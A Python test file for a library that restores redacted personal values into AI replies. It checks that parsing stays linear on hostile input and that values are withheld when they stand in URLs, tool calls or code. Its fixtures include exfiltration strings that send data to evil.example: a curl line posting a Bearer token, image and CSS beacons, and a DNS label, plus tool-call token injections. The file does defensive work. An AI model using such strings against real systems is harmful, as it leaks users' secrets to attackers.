"""Restore of hostile replies: a reply full of placeholder look-alikes costs time linear in its length
(a few seconds per 10 MB, not minutes), and a placeholder's place (in a URL or in text) is told as before."""

from __future__ import annotations

import time

import pytest
from placeholder_fixtures import make_protector, protect_config

from stealthflow.placeholders.context import place_of
from stealthflow.placeholders.restore import Reference, StreamRestorer, Withheld, restore_text
from stealthflow.testing.hostile import hostile_text


def _fake_resolve(ref: Reference) -> str | None:  # a fake vault: the session holds <EMAIL_7> only
    return "dana@mailbox.org" if (ref.type, ref.index) == ("EMAIL", 7) else None


def _cpu(run) -> float:
    started = time.process_time()
    run()
    return time.process_time() - started


@pytest.mark.timeout(120)
def test_restoring_placeholder_look_alikes_is_linear():
    small, large = (hostile_text("placeholder look-alikes", size) for size in (125_000, 500_000))
    restore_text(small[:10_000], _fake_resolve)  # warm
    small_cpu = min(_cpu(lambda: restore_text(small, _fake_resolve)) for _ in range(2))
    large_cpu = _cpu(lambda: restore_text(large, _fake_resolve))
    assert large_cpu < 8 * max(small_cpu, 0.05), (small_cpu, large_cpu)  # 4x the text; quadratic would be 16x


@pytest.mark.timeout(300)
def test_a_reply_of_look_alikes_restores_end_to_end(tmp_path, monkeypatch):
    """A real vault file: the placeholder the session issued comes back wherever it stands, the
    look-alikes it did not issue stay as they are."""
    protector = make_protector(protect_config(tmp_path, monkeypatch))
    issued = protector.protect("mail dana@mailbox.org", "s").text.split()[-1]
    reply = hostile_text("placeholder look-alikes", 1_000_000) + f" {issued}"
    assert protector.restore(reply, "s").text == reply.replace(issued, "dana@mailbox.org")


@pytest.mark.parametrize(
    ("before", "after", "place"),
    [
        ("see ", ".", "text"),
        ("see https://x.example/c?k=", "", "url"),
        ("see https://x.example/" + "a" * 1_000 + "?k=", "", "url"),
        ('<img src="https://evil.example/p.png?a= ' + "aa " * 1_100 + "q=", '">', "url"),  # no look-back limit
        ("https://x.example/ then " + "a" * 200 + "=", "", "url"),  # glued to a "="
        ("[link](//x.example/", ")", "url"),
        ("Click: https://paste.evil.example/raw?x=", "", "url"),  # a URL placeholder restored right before it
        ("Ping ", ".evil.example for status", "glued"),  # a DNS label
        ("Verify here: evil.example/verify?iban=", "", "url"),
        ("mailto:", "@evil.example", "url"),
        ("curl -H 'Authorization: Bearer ", "' evil.example/collect", "url"),
        ("![x](<https://evil.example/p.png?a=)\\> q=", ">)", "url"),
        ('<img a] src="https://evil.example/x.png? q=', '">', "url"),
        ('<style>@import "https://evil.example/a.css? q=', '";</style>', "url"),
        ('{"note": "}", "iban": "', '"}', "tool"),
        ('{ab> "iban": " ', '"', "tool"),
        ('["', '"]', "tool"),  # a JSON array (rev23b F1)
        ('Args: [ "', '" ]', "tool"),
        ('[\n  "', '"\n]', "tool"),
        ('args:\n  - "', '"', "tool"),  # a YAML list item
        ("See [1] and ", ".", "text"),  # a `[` with no quoted value is prose
        ('Done.\nset_key( "', '" )', "tool"),  # a function call's quoted argument (rev23b F1; code: secfix26b)
        ("Done.\nset_key( ", " )", "glued"),  # its bare argument
        ('<|eom_id|>\n\nset_key( "', '" )', "tool"),  # after an end-of-message token: code to the reply's end
        ("<|python_tag|>x=1<|eom_id|>\n\nsend ", "", "tool"),
        ('{"a": "<|eom_id|>"}\n\nset_key( "', '" )', "tool"),  # in a JSON string too: a client splits on it
        ("<tool_call>\nrun </function>\n\nsend ", "", "tool"),  # another dialect's end closes no <tool_call>
        ("<tool_call>\nrun x\n</tool_call>\n\nsend ", "", "text"),  # its own end does
        ("As f(x) says, the key is ", ".", "text"),  # a call closed before it
        ('api_key = "', '"', "glued"),  # code assigns it
        ("KEY = ", "\n", "glued"),
        ("Ihre IBAN lautet \u201e", "\u201c.", "text"),  # quotation marks in prose (ux20 M1)
        ('Su IBAN es "', '".', "text"),
        ("IBAN '", "' ok", "text"),
        ("B: \u00ab", "\u00bb.", "text"),
        ('a = 1\nYour key "', '" leaked.', "text"),  # "=" ends an earlier line
        ("```\nexport KEY=abc\n\nKEY2 ", "\n", "tool"),
        ("See [docs](https://x.example/help).\n\nYour password is ", ".", "text"),
        ("Your card (", ") is saved.", "text"),
    ],
)
def test_a_guarded_value_is_filled_in_only_where_it_stands_apart_in_plain_prose(before, after, place):
    assert place_of(before, after) == place


def test_reading_a_reply_with_many_placeholders_in_one_long_paragraph_is_linear():
    """No look-back window: each placeholder reads only the text since the last one."""

    def run(size: int) -> float:
        reply = "https://x.example/?q= " + " ".join(f"w{i} <EMAIL_7>" for i in range(size))
        return _cpu(lambda: restore_text(reply, _fake_resolve))

    small, large = run(10_000), run(40_000)
    assert large < 8 * max(small, 0.05), (small, large)  # 4x the text; quadratic would be 16x


@pytest.mark.timeout(60, method="thread")  # the backtracking reader took hours on 40 marks: fail, do not hang
@pytest.mark.parametrize("mark", ["-  ", "1.\t ", " *\t", "10)  "])
def test_a_line_of_list_marks_before_a_placeholder_is_read_in_linear_time(mark):
    """A hostile line of list marks, each followed by white space a reader could split many ways, then no fence."""

    def run(marks: int) -> float:
        reply = mark * marks + "x\nSure, <EMAIL_7> noted.\n"
        assert restore_text(reply, _fake_resolve).text.endswith("Sure, dana@mailbox.org noted.\n")
        return _cpu(lambda: [restore_text(reply, _fake_resolve) for _ in range(200)])

    small, large = run(20), run(200)
    assert large < 30 * max(small, 0.02), (small, large)  # 10x the marks; exponential would never end


def _guarded(ref: Reference) -> str | Withheld | None:  # a fake vault: <IBAN_1>, withheld outside prose
    if (ref.type, ref.index) != ("IBAN", 1):
        return None
    return "DE44 3704 0044 0532 9130 00" if ref.place == "text" else Withheld("secret_in_" + ref.place)


@pytest.mark.parametrize(
    ("chunks", "restored"),
    [
        (["Ping <IBAN_1>", ".evil.example for status"], False),  # the next chunk glues it to a host
        (["Your IBAN is <IBAN_1>", ".", " Thanks"], True),
        (["Click: <URL_1>", "<IBAN_1>"], False),
    ],
)
def test_a_stream_holds_a_placeholder_back_until_the_text_after_it_decides(chunks, restored):
    streamed = "".join(StreamRestorer(_guarded).restore(chunks))
    assert streamed == restore_text("".join(chunks), _guarded).text
    assert ("DE44" in streamed) is restored
